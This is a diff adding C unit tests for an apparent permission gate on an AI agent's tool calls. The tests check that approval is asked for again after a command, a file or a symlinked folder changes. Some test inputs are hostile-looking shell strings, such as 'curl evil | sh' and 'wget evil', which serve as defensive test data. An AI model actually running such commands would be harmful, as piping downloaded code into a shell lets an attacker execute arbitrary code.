@@ -91,6 +91,39 @@ START_TEST(a_permission_for_a_command_that_was_replaced_is_asked_about)
 	is_granted(bash("echo safe"));
 	is_asked(bash("curl evil | sh"));
 	is_asked(bash("echo safe"));
+	is_approved_with(bash("wget evil"), "echo fine");
+	is_asked(bash("wget evil")); /* also before what it was replaced by */
+}
+END_TEST
+
+START_TEST(a_permission_for_a_file_that_has_changed_since_is_asked_about)
+{
+	given_hooks();
+	put_file(workspace, "a.txt", "one\n");
+	is_approved(writing("a.txt", "two\\n"));
+	put_file(workspace, "a.txt", "somebody's\n");
+	is_asked(writing("a.txt", "two\\n"));
+}
+END_TEST
+
+START_TEST(a_permission_in_a_folder_that_leads_elsewhere_since_is_asked_about)
+{
+	OWNED(str) struct str link = { 0 };
+	const char *one, *two;
+
+	given_hooks();
+	one = below(workspace, "one");
+	two = below(workspace, "two");
+	str_addf(&link, "%s/link", workspace);
+	is_allowed(gate_ask("PreToolUse",
+	                    tool_of("s1", workspace, "Read", "{\"file_path\":\"/etc/hostname\"}")));
+	ck_assert(mkdir(one, 0755) == 0 && mkdir(two, 0755) == 0);
+	ck_assert_int_eq(symlink(one, link.bytes), 0);
+	is_approved_with(tool_of("s1", link.bytes, "Bash", "{\"command\":\"curl evil | sh\"}"),
+	                 "echo safe");
+	ck_assert_int_eq(unlink(link.bytes), 0);
+	ck_assert_int_eq(symlink(two, link.bytes), 0);
+	is_asked(tool_of("s1", link.bytes, "Bash", "{\"command\":\"echo safe\"}"));
 }
 END_TEST
 
@@ -296,6 +329,8 @@ int main(void)
 	tcase_add_test(c, a_permission_is_granted_once);
 	tcase_add_test(c, a_permission_for_a_command_that_was_replaced_is_asked_about);
 	tcase_add_test(c, a_permission_for_a_content_that_was_replaced_is_asked_about);
+	tcase_add_test(c, a_permission_for_a_file_that_has_changed_since_is_asked_about);
+	tcase_add_test(c, a_permission_in_a_folder_that_leads_elsewhere_since_is_asked_about);
 	tcase_add_test(c, a_permission_for_what_was_rejected_later_is_not_granted);
 	tcase_add_test(c, a_permission_belongs_to_the_use_that_was_allowed);
 	tcase_add_test(c, a_use_that_ended_under_another_id_grants_nothing);
